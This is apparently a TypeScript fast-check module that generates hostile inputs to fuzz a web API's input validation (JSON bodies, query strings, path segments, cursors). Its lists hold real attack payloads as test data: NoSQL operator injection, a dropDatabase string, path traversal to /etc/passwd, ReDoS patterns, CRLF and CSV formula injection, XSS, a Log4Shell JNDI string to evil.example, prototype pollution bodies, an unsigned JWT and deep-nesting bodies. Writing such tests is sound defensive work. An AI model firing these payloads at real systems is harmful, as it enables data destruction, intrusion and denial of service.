import fc from 'fast-check';

/**
 * Generators of hostile input for the hardening suites: the shapes attackers and broken clients send. Every
 * generator yields JSON-serializable values (what can cross HTTP), except `rawBody`, which yields the exact
 * bytes of a request body (malformed JSON, prototype-pollution keys that `JSON.stringify` would drop).
 */

/** Strings that broke parsers, validators and regex engines elsewhere. */
const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF\uD800',
  '\uFFFE\uFFFF',
  '\u202Eevil\u202C',
  '\u200B\u200D\uFEFF',
  'ﷺ',
  '👩‍👩‍👧‍👦',
  'Ω≈ç√∫',
  '𝕿𝖍𝖊',
  '\r\n\r\nX-Injected: 1',
  '../../../../etc/passwd',
  '%00',
  '%',
  '%ZZ',
  '\\',
  '"',
  "'; db.dropDatabase(); '",
  '{"$ne":null}',
  '$where',
  'this.constructor.constructor("return process")().exit()',
  '(a+)+$',
  '((((((a*)*)*)*)*)*)b',
  '(.*a){25}',
  '^(\\w+\\s?)*$',
  `${'a'.repeat(60)}!`,
  '[',
  '*',
  '.*',
  '"unclosed phrase',
  '""',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e9999',
  '0x1F',
  '99999999999999999999999',
  'true',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  'prototype',
  '=HYPERLINK("http://evil.example")',
  '+cmd|" /C calc"!A0',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
];

/** Dates a parser might choke on: out of range, impossible, wrong formats. */
const NASTY_DATES = [
  '0000-00-00',
  '9999-99-99',
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00Z',
  '275761-01-01',
  '2024-02-30',
  '2024-13-01',
  '2024-01-01T25:61:61Z',
  '2024-01-01T00:00:00+99:99',
  '1970-01-01T00:00:00.0000000001Z',
  '2024-01-01T00:00:00Z',
  '1e20',
  'now',
  'yesterday',
  '-1',
  '2024/01/01',
];

/** Numbers at and past every edge (JSON has no NaN/Infinity; they travel as text). */
const NASTY_NUMBERS = [
  -1,
  0,
  -0,
  0.5,
  1.5,
  -2147483649,
  2147483648,
  2 ** 53 + 1,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_VALUE,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  1e21,
];

/** MongoDB query operators and prototype tricks, as values of a field. */
const OPERATOR_VALUES: unknown[] = [
  { $ne: null },
  { $gt: '' },
  { $where: 'sleep(5000) || true' },
  { $regex: '.*', $options: 'si' },
  { $expr: { $eq: [1, 1] } },
  { $in: [null, ''] },
  { $exists: true },
  { $function: { body: 'function(){return true}', args: [], lang: 'js' } },
  ['$ne', null],
  { constructor: { prototype: { polluted: 'yes' } } },
  { toString: 'x', valueOf: 'y', hasOwnProperty: 'z' },
];

/** Cursor-shaped strings: not base64, wrong parts, a forged payload with a made-up signature. */
const NASTY_CURSORS = [
  'not-a-cursor',
  '.',
  '..',
  'a.b.c',
  '%%%.%%%',
  `${Buffer.from('1:0:000000000000000000000000').toString('base64url')}.AAAAAAAAAAAAAAAAAAAAAA`,
  `${Buffer.from('1:99999999999999999:ffffffffffffffffffffffff').toString('base64url')}.${'A'.repeat(22)}`,
  `${Buffer.from('{"$ne":null}').toString('base64url')}.x`,
  'eyJhbGciOiJub25lIn0.e30.',
];

/** A short hostile string; long ones come from `hugeString`. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom(...NASTY_DATES) },
  { weight: 1, arbitrary: fc.constantFrom(...NASTY_CURSORS) },
);

/** Strings far past every documented limit (bodies only: URLs that long are refused by Node itself). */
export const hugeString: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('a', '=', '\u0000', '€', '(a+)+', ' '), fc.constantFrom(1_000, 5_000, 70_000))
  .map(([unit, times]) => unit.repeat(times));

/** A hostile value for a field of a JSON body or tRPC input. */
export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nastyString },
  { weight: 1, arbitrary: hugeString },
  { weight: 2, arbitrary: fc.constantFrom(...NASTY_NUMBERS) },
  { weight: 3, arbitrary: fc.constantFrom(...OPERATOR_VALUES) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(nastyString, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.constant(Array.from({ length: 200 }, (_, i) => `v${i}`)) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Keys an attacker adds: operators, prototype keys, bracket syntax, unknown names. */
const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '$where',
    '$ne',
    '$expr',
    'constructor',
    'prototype',
    'service[$ne]',
    'tags[0]',
    'a.b',
    '',
    ' ',
    '\u0000',
  ),
  fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 12 }),
);

/** A request object over the given field names: each known field maybe set to hostile values, plus hostile keys. */
export function nastyObject(fields: readonly string[]): fc.Arbitrary<Record<string, unknown>> {
  const known = fields.length > 0 ? fc.constantFrom(...fields) : hostileKey;
  return fc
    .array(
      fc.tuple(fc.oneof({ weight: 3, arbitrary: known }, { weight: 1, arbitrary: hostileKey }), nastyValue),
      {
        maxLength: 5,
      },
    )
    .map((entries) => {
      const out: Record<string, unknown> = {};
      for (const [key, value] of entries)
        Object.defineProperty(out, key, { value, enumerable: true, writable: true });
      return out;
    });
}

/** JSON nested `depth` levels deep, as text (built as text: a JS object that deep would overflow `JSON.stringify`). */
export function deepJson(depth: number, inner = '"x"'): string {
  return `${'{"filters":'.repeat(depth)}${inner}${'}'.repeat(depth)}`;
}

/** A raw body: JSON of a hostile object, JSON text with `__proto__` keys, deep nesting, or broken JSON. */
export function rawBody(fields: readonly string[]): fc.Arbitrary<string> {
  const field = fields[0] ?? 'x';
  return fc.oneof(
    { weight: 6, arbitrary: nastyObject(fields).map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: nastyValue.map((value) => JSON.stringify(value) ?? 'null') },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        `{"__proto__":{"polluted":"yes"},"${field}":"x"}`,
        `{"constructor":{"prototype":{"polluted":"yes"}},"${field}":"x"}`,
        `{"${field}":{"__proto__":{"polluted":"yes"}}}`,
        `{"${field}":"x","${field}":{"$ne":null}}`,
      ),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(deepJson(5_000), `${'['.repeat(20_000)}${']'.repeat(20_000)}`, deepJson(64)),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        '',
        '{',
        '{"a":',
        '{"a":1,}',
        "{'a':1}",
        'NaN',
        '\u0000',
        '\uFEFF{}',
        '{"a":"\\ud800"}',
        '{"a":"\\u0000"}',
        `{"${field}":"${'x'.repeat(10)}"`,
        'null',
        '[]',
        '"string"',
      ),
    },
  );
}

/**
 * Percent-encode text as its UTF-8 bytes. Unlike `encodeURIComponent` it does not throw on lone surrogates
 * (they become U+FFFD, as a browser would send them).
 */
export function encodeText(text: string): string {
  let out = '';
  for (const byte of new TextEncoder().encode(text)) {
    const char = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-_.~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** A query-string value: hostile text, or the raw, undecodable percent-escapes the URL parser keeps as they are. */
export const queryValue: fc.Arbitrary<{ raw: boolean; text: string }> = fc.oneof(
  { weight: 5, arbitrary: nastyString.map((text) => ({ raw: false, text })) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom('%ZZ', '%E0%A4%A', '%ED%A0%80', '%C0%AF', '%00', '%', '%%', '%uD800', '%FF%FE')
      .map((text) => ({ raw: true, text })),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(...OPERATOR_VALUES)
      .map((value) => ({ raw: false, text: JSON.stringify(value) ?? '' })),
  },
  { weight: 1, arbitrary: fc.constantFrom(...NASTY_NUMBERS).map((n) => ({ raw: false, text: String(n) })) },
);

/** A query string over the given parameter names (plus hostile ones), percent-encoded except for raw escapes. */
export function queryString(fields: readonly string[]): fc.Arbitrary<string> {
  const name =
    fields.length > 0
      ? fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...fields) }, { weight: 1, arbitrary: hostileKey })
      : hostileKey;
  return fc
    .array(fc.tuple(name, queryValue), { maxLength: 5 })
    .map((pairs) =>
      pairs
        .map(([key, value]) => `${encodeText(key)}=${value.raw ? value.text : encodeText(value.text)}`)
        .join('&'),
    );
}

/** A path segment standing in for `:id` or `*`: hostile text, percent-encoded (or raw escapes). */
export const pathSegment: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: nastyString.filter((s) => s.length > 0).map((s) => encodeText(s)) },
  { weight: 1, arbitrary: fc.constantFrom('%ZZ', '%ED%A0%80', '..%2F..%2Fadmin', '%00', 'a'.repeat(400)) },
  { weight: 1, arbitrary: fc.constantFrom('000000000000000000000000', 'ffffffffffffffffffffffff') },
);
